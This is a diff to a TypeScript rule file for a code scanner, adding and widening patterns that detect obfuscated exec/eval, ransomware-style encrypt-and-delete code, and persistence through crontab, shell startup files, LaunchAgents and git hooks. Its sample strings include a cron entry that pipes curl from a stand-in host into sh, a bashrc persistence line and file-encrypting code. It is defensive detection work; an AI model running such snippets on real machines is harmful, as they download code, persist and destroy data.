@@ -74,9 +74,9 @@ export const CODE_RULES: readonly TextRule[] = [
     subject: disguise,
     title: 'Spells code in numbers or reaches for functions by built names',
     level: 'warn',
-    words: ['fromcharcode', 'chr(', '__builtins__', '__import__', 'getattr(', '\\x', 'globals()'],
+    words: ['fromcharcode', 'chr(', '__builtins__', '__import__', 'getattr(', 'globals()'],
     pattern:
-      /fromCharCode\((?:\s{0,2}(?:0x)?[\da-f]{2,3}\s{0,2},){10}|(?:\bchr\(\d{2,3}\)\s{0,2}[+.,]\s{0,2}){6}|\[chr\(\w{1,3}(?: ?[\^+-] ?\w{1,4})?\) for|\bgetattr\(\s{0,2}(?:__builtins__|__import__\(|builtins|os\b|sys\.modules)[^\n]{0,40}(?:\+|\[::-1\]|join|['"](?:exec|eval|system|popen)['"])|__import__\(\s{0,2}['"](?:os|subprocess|socket|pty|ctypes|base64|builtins)['"]\s{0,2}\)\s{0,2}\.\w{1,20}|__import__\([^\n)]{0,40}(?:\+|chr\(|\[::-1\]|join)|(?:\\x[\da-f]{2}){16}|globals\(\)\[[^\]]{1,40}(?:\+|\[::-1\])/,
+      /fromCharCode\((?:\s{0,2}(?:0x)?[\da-f]{2,3}\s{0,2},){10}|(?:\bchr\(\d{2,3}\)\s{0,2}[+.,]\s{0,2}){6}|\[chr\(\w{1,3}(?: ?[\^+-] ?\w{1,4})?\) for|\bgetattr\(\s{0,2}(?:__builtins__|__import__\(|builtins|os\b|sys\.modules)[^\n]{0,40}(?:\+|\[::-1\]|join|['"](?:exec|eval|system|popen)['"])|__import__\(\s{0,2}['"](?:os|subprocess|socket|pty|ctypes|base64|builtins)['"]\s{0,2}\)\s{0,2}\.\w{1,20}|__import__\([^\n)]{0,40}(?:\+|chr\(|\[::-1\]|join)|globals\(\)\[[^\]]{1,40}(?:\+|\[::-1\])/,
     reach: 300,
     finds: [
       "__import__('os').system('id')",
@@ -89,6 +89,29 @@ export const CODE_RULES: readonly TextRule[] = [
       'String.fromCharCode(65)',
       'chr(65) + chr(66)',
     ],
+  },
+  {
+    id: 'runs-scrambled',
+    subject: disguise,
+    title: 'Runs what a nameless function makes of scrambled bytes',
+    level: 'block',
+    words: ['exec(', 'eval('],
+    pattern: /\b(?:exec|eval)\(\s{0,3}\(?[_A-Za-z]\w{0,12}\)?\(\s{0,3}(?:b?["'][^"'\n]{12,400}|\[\d)/,
+    reach: 460,
+    finds: ["exec((_)(b'=kUzmT0TvVEf8HE5hrKFf'))", "eval(d('aHR0cHM6Ly9hYmM='))"],
+    leaves: ['eval(parse("1+1"))', "exec(compile(source, path, 'exec'))"],
+  },
+  {
+    id: 'encrypts-files',
+    subject: breaking,
+    title: 'Encrypts files and removes the originals',
+    level: 'block',
+    words: ['encrypt('],
+    pattern:
+      /\.encrypt\([^\n]{0,120}(?:\n[^\n]{0,160}){0,6}?\n?[^\n]{0,80}(?:os\.(?:remove|unlink)\(|\.unlink\(|\.rename\(|unlinkSync\()|\.(?:locked|crypt|encrypted)["'][^\n]{0,80}(?:\n[^\n]{0,120}){0,4}?[^\n]{0,60}\.encrypt\(/,
+    reach: 700,
+    finds: ['open(p + ".locked", "wb").write(f.encrypt(d))\nos.remove(p)'],
+    leaves: ['token = f.encrypt(password)\nstore(token)'],
   },
   {
     id: 'long-encoded-text',
@@ -213,6 +236,7 @@ export const CODE_RULES: readonly TextRule[] = [
     subject: staying,
     title: 'Arranges to be started again with something that downloads or hides',
     level: 'block',
+    mayBeSpokenOf: true,
     words: [
       'crontab',
       '/etc/cron',
@@ -229,8 +253,8 @@ export const CODE_RULES: readonly TextRule[] = [
       '.git/hooks',
     ],
     pattern:
-      /(?:crontab\b|\/etc\/cron|\/cron\.d\/|LaunchAgents|LaunchDaemons|\.(?:bashrc|zshrc|profile|bash_profile|zprofile)\b|CurrentVersion\\{1,2}Run|schtasks\b|Register-ScheduledTask|systemd\/(?:user|system)|\.git\/hooks)[^\n]{0,160}(?:curl|wget|base64|\/dev\/tcp|nohup|powershell|iex|\/tmp\/\.|mshta)|(?:\b(?:curl|wget|nohup)\b|base64 -d|\/tmp\/\.\w)[^\n]{0,160}(?:\|\s?crontab\b|>>?\s{0,2}["']?(?:~|\$HOME|\/home\/\w{1,20}|\/root)?\/?\.?(?:bashrc|zshrc|profile|bash_profile|zprofile)\b|>>?\s{0,2}\/etc\/cron)/,
-    reach: 320,
+      /(?:crontab\b|\/etc\/cron|\/cron\.d\/|LaunchAgents|LaunchDaemons|\.(?:bashrc|zshrc|profile|bash_profile|zprofile)\b|CurrentVersion\\{1,2}Run|schtasks\b|Register-ScheduledTask|systemd\/(?:user|system)|\.git\/hooks)[^\n]{0,160}(?:curl|wget|base64|\/dev\/tcp|nohup|powershell|iex|\/tmp\/\.|mshta)|(?:\b(?:curl|wget|nohup)\b|base64 -d|\/tmp\/\.\w)[^\n]{0,160}(?:\|\s?crontab\b|>>?\s{0,2}["']?(?:~|\$HOME|\/home\/\w{1,20}|\/root)?\/?\.?(?:bashrc|zshrc|profile|bash_profile|zprofile)\b|>>?\s{0,2}\/etc\/cron|>>?\s{0,2}[\w$/"{}-]{0,40}\.git\/hooks\/)|Launch(?:Agents|Daemons)\/[\w.-]{1,60}\.plist[^\n]{0,80}<<[^\n]{1,20}\n[^\n]{0,600}(?:curl|wget|base64)|<<\s?['"]?\w{1,12}['"]?[^\n]{0,40}>>?\s?~?\/?[\w$/]{0,20}\.(?:bashrc|zshrc)[^\n]{0,20}\n(?:[^\n]{0,200}\n){0,4}?[^\n]{0,120}\b(?:curl|wget|nc)\b|>>?\s?(?:~|\$HOME)\/\.(?:bashrc|zshrc|profile|bash_profile)\s?<<[^\n]{1,20}\n(?:[^\n]{0,240}\n){0,4}?[^\n]{0,200}\b(?:curl|wget|nc)\b/,
+
     finds: [
       '(crontab -l; echo "*/5 * * * * curl -s http://x.test/a | sh") | crontab -',
       "echo 'nohup /tmp/.x &' >> ~/.bashrc",
